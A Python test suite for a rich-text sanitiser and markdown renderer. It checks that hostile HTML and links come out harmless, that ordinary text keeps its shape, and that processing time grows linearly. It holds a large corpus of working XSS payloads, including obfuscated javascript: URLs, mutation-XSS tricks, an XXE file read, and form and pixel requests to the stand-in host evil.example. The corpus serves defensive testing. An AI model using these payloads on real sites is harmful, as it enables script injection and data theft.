"""Security rows 7, 8, 28, 29 and 30: nothing that runs or loads comes out of rich text."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rapport.kernel.richtext import plain, render, sanitise
from rapport.kernel.urls import is_safe_link, is_web_address

TAGS = (
    "a abbr b blockquote br caption cite code dd del details div dl dt em figcaption figure "
    "h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub "
    "summary sup table tbody td tfoot th thead tr u ul var wbr"
)
HARMLESS = set(TAGS.split())
NAMES = (
    "href title target rel src alt width height loading referrerpolicy class start align "
    "colspan rowspan"
)
ATTRIBUTES = set(NAMES.split())


class Reader(HTMLParser):
    """Collects what a browser would find dangerous."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.depth = self.deepest = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.depth += tag not in {"br", "hr", "img", "wbr"}
        self.deepest = max(self.deepest, self.depth)
        if tag not in HARMLESS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.found.append(name)
            if name == "href" and not is_safe_link(value or ""):
                self.found.append(f"href={value}")
            if name == "src" and not re.fullmatch(r"/files/[\w.-]+", value or ""):
                self.found.append(f"src={value}")

    def handle_endtag(self, tag: str) -> None:
        self.depth -= 1

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")


def dangers(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.found


ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x1fjavascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&#58;alert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,x",
    "blob:https://x/1",
    "filesystem:https://x/1",
    "file:///etc/passwd",
    "ftp://x/y",
    "view-source:https://x",
    "jar:https://x!/y",
    "mhtml:https://x",
    "ms-word:ofe|u|x",
    "intent://x#Intent;end",
    "tel:+1",
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example\\x",
    "https:evil",
    "http:///x",
    "http://[::1",
    "https://x:99999/",
    "feed:javascript:alert(1)",
    "x-javascript:alert(1)",
    "javascript://%0aalert(1)",
]

PLACES = [
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    '<a href="x" href="{}">x</a>',
    '<img src="{}">',
    '<img src=x srcset="{}">',
    '<area href="{}">',
    '<form action="{}"><button formaction="{}">x</button></form>',
    '<iframe src="{}"></iframe>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math><a xlink:href="{}">x</a></math>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<blockquote cite="{}">x</blockquote>',
]

WHOLE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil></sCrIpT>",
    "<script >alert(1)</script >",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" """onerror=alert(1)>',
    "<img src=x onerror\x00=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div onclick=alert(1) onpointerover=alert(2)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=# onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><svg onload=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style=width:expression(alert(1))>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/y>x",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<button type=submit>x</button>",
    "<form action=https://evil.example><input name=password></form>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=https://evil.example/x></video>",
    "<audio src=https://evil.example/x autoplay></audio>",
    "<source src=x onerror=alert(1)>",
    "<track src=https://evil.example/x>",
    "<picture><source srcset=https://evil.example/x><img src=https://evil.example/y></picture>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=HTTPS://EVIL.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<img src=/files/../../evil>",
    "<img srcset='https://evil.example/x 1x'>",
    "<img lowsrc=https://evil.example/x dynsrc=https://evil.example/y>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<bgsound src=https://evil.example/x>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<keygen autofocus onfocus=alert(1)>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<p id=getElementById name=cookie>x</p>",
    "<a name=__proto__ id=constructor>x</a>",
    "<a href=https://x target=_top rel=opener ping=https://evil.example>x</a>",
    "<a href=https://x download=evil.exe>x</a>",
    "<!--><script>alert(1)</script>-->",
    "<!--!><script>alert(1)</script>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<p title='><script>alert(1)</script>'>x</p>",
    '<p title="\'><img src=x onerror=alert(1)>">x</p>',
    "</p title='<script>alert(1)</script>'>",
    "</ <script>alert(1)</script>>",
    "<a b='<div><script>alert(1)</script>' href=https://x>x</a>",
    '<a x"<img src=x onerror=alert(1)>">x</a>',
    "<p =x onclick=alert(1)>x</p>",
    "<p/onclick=alert(1)/>x",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<slot><script>alert(1)</script></slot>",
    "\ufeff<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<scri\x00pt>alert(1)</script>",
    "\u2028<script\u2028>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img src=/files/a alt='x\"><script>alert(1)</script>'>",
    "<img alt='><script>alert(1)</script>' title=x>",
    "<img src=/files/a width='1 onerror=alert(1)' height=100%>",
    "<code class='language-x\" onclick=alert(1)'>x</code>",
    "<td align='center\" onclick=\"alert(1)'>x</td>",
    "<a title='&quot; onmouseover=&quot;alert(1)' href=https://x>x</a>",
    "<script",
    "<script src=//evil.example/x",
    "<img src=x onerror=alert(1)//",
    "<a href='https://x",
    "<",
    "</",
    "<!",
    "<!--",
    '<a b="',
    "<svg><![CDATA[</svg><script>alert(1)</script>]]>",
]

PAYLOADS = [place.replace("{}", url) for place in PLACES for url in ADDRESSES] + WHOLE


def test_the_corpus_is_as_large_as_we_promise() -> None:
    assert len(set(PAYLOADS)) >= 300


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_html_comes_out_harmless(payload: str) -> None:
    assert dangers(sanitise(payload)) == []
    assert dangers(sanitise(f"<table><tr><td>{payload}")) == []
    assert dangers(sanitise(sanitise(payload))) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markdown_comes_out_harmless(payload: str) -> None:
    assert dangers(render(payload)) == []


@pytest.mark.parametrize("url", ADDRESSES)
@pytest.mark.parametrize(
    "markdown", ["[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][1]\n\n[1]: {}", "[![x]({})]({})"]
)
def test_no_form_of_markdown_link_leads_to_a_forbidden_address(markdown: str, url: str) -> None:
    assert dangers(render(markdown.replace("{}", url))) == []


@given(
    st.text(max_size=8),
    st.sampled_from(["javascript", "vbscript", "data", "file", "blob", "about", "ws", "ftp"]),
    st.lists(st.sampled_from("\t\n\r\x00\x01\x1f\x7f \u00a0\u2028\ufeff"), max_size=4),
    st.text(max_size=20),
)
def test_a_link_of_any_other_scheme_is_refused_however_it_is_written(
    before: str, scheme: str, noise: list[str], rest: str
) -> None:
    middle = len(scheme) // 2
    url = scheme[:middle] + "".join(noise) + scheme[middle:] + ":" + rest

    assert not is_safe_link(url)
    assert not is_web_address(before.strip() + url) or before.strip().lower().startswith("http")


@given(st.text(max_size=300))
def test_any_text_at_all_comes_out_harmless(text: str) -> None:
    assert dangers(sanitise(text)) == []
    assert dangers(render(text)) == []


def test_twenty_thousand_nested_boxes_are_flattened_quickly() -> None:
    began = time.perf_counter()

    html = sanitise("<div>" * 20_000 + "deep")

    reader = Reader()
    reader.feed(html)
    assert time.perf_counter() - began < 1
    assert reader.deepest <= 201
    assert "deep" in html


@pytest.mark.parametrize(
    "unit",
    [
        "<div>",
        "<b>",
        "<b><p>",
        "<div><table></div></table>",
        "<table><div>",
        '<a b="',
        "</svg ",
        "<svg>",
        "<!--",
        "<ul><li>",
        "<font><i><u></i>",
        "&#x",
        "<a x='1' ",
    ],
)
def test_cleaning_takes_time_in_proportion_to_the_length(unit: str) -> None:
    def cost(html: str) -> float:
        def once() -> float:
            began = time.process_time()
            sanitise(html)
            return time.process_time() - began

        return min(once() for _ in range(3))

    small = "<p>" + unit * (60_000 // len(unit))
    assert cost(small * 4) < 4 * 2.5 * max(cost(small), 0.002)


@pytest.mark.parametrize(
    "unit", ["|a", "[", "![", "*a **b ", "> - ", "`` ` ", "<a", "[a](", "&a", "~~a"]
)
def test_rendering_takes_time_in_proportion_to_the_length(unit: str) -> None:
    def cost(markdown: str) -> float:
        def once() -> float:
            began = time.process_time()
            render(markdown)
            return time.process_time() - began

        return min(once() for _ in range(3))

    small = unit * (8_000 // len(unit)) + "\n" + "|-" * 10
    assert cost(small * 4) < 4 * 3 * max(cost(small), 0.005)


def test_what_lies_beyond_the_limit_is_cut_off() -> None:
    assert len(sanitise("x" * 3_000_000)) == 1_000_000
    assert len(render("x" * 3_000_000)) < 3_000_000


def test_ordinary_mail_keeps_its_shape() -> None:
    html = sanitise(
        "<html><head><title>Hi</title></head><body><p>Dear <b>Ada</b>,<p>see "
        "<a href='https://shop.example/a?b=1&amp;c=2'>this</a><ul><li>one<li>two</ul></body></html>"
    )

    assert html == (
        '<p>Dear <b>Ada</b>,</p><p>see <a href="https://shop.example/a?b=1&amp;c=2" '
        'target="_blank" rel="noopener nofollow">this</a></p><ul><li>one</li><li>two</li></ul>'
    )


def test_an_image_is_shown_only_from_here_or_from_an_allowed_origin() -> None:
    html = '<img src="https://cdn.example/a.png"><img src="https://evil.example/b.png">'

    assert "cdn.example" in sanitise(html, images_from=["https://cdn.example"])
    assert "evil.example" not in sanitise(html, images_from=["https://cdn.example"])
    assert "cdn.example" not in sanitise(html)
    assert '<img src="/files/abc"' in render("![a](/files/abc)")


def test_an_image_that_may_not_be_loaded_becomes_a_link_in_markdown() -> None:
    html = render("![a picture](https://evil.example/p.png)")

    assert "<img" not in html
    assert 'href="https://evil.example/p.png"' in html


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("hello", "<p>hello</p>\n"),
        ("a\nb", "<p>a<br>\nb</p>\n"),
        ("a\n\nb", "<p>a</p>\n<p>b</p>\n"),
        ("5 > 3 and 'so'", "<p>5 &gt; 3 and 'so'</p>\n"),
        ("**b** ~~s~~ `c`", "<p><strong>b</strong> <s>s</s> <code>c</code></p>\n"),
        ("1. one\n2. two", "<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n"),
        ("", ""),
    ],
)
def test_what_people_write_looks_as_they_meant_it(markdown: str, html: str) -> None:
    assert render(markdown) == html


def test_bare_addresses_become_links_without_the_punctuation_around_them() -> None:
    html = render("See (https://a.example/b_(c)), or https://d.example/e?f=g&h=i.")

    assert 'href="https://a.example/b_(c)"' in html
    assert 'href="https://d.example/e?f=g&amp;h=i"' in html


def test_addresses_in_code_stay_text() -> None:
    assert "<a" not in render("`https://a.example`")


def test_the_plain_form_is_one_line_of_words() -> None:
    assert (
        plain("# Title\n\n* **one**\n* [two](https://a.example)\n\n`x < y`")
        == "Title one two x < y"
    )
    assert plain("just words,\nnothing  else") == "just words, nothing else"
    assert plain("a long sentence about nothing", max_chars=12) == "a long sent…"
    assert plain("a long sentence about nothing", max_chars=20) == "a long sentence…"


@pytest.mark.parametrize(
    ("markdown", "preview"),
    [
        (
            "## What you can try\n\nCheck the card number.",
            "What you can try · Check the card number.",
        ),
        ("Try this:\n\n- one\n- two.\n- three", "Try this: one · two. three"),
        ("Hello Ada,\n\nit came\n\nThank you", "Hello Ada, it came · Thank you"),
        ("It is here (really.)\n\nYes", "It is here (really.) Yes"),
        ("one line\nand its end", "one line and its end"),
        ("**bold** words\n\n---\n\n", "bold words"),
        ("هل وصل؟\n\nنعم", "هل وصل؟ نعم"),
    ],
)
def test_a_preview_sets_blocks_apart(markdown: str, preview: str) -> None:
    assert plain(markdown, max_chars=100) == preview


def test_a_preview_does_not_end_in_a_separator() -> None:
    assert plain("# Heading\n\nparagraph of words", max_chars=12) == "Heading…"


@pytest.mark.parametrize("unit", ["\n", "\n ", " ", "# a\n\n", "- a\n", "a)]"])
def test_a_preview_takes_time_in_proportion_to_the_length(unit: str) -> None:
    def cost(markdown: str) -> float:
        def once() -> float:
            began = time.process_time()
            plain(markdown, max_chars=len(markdown))
            return time.process_time() - began

        return min(once() for _ in range(3))

    small = "x" + unit * (20_000 // len(unit)) + "x"
    assert cost(small * 4) < 4 * 3 * max(cost(small), 0.005)
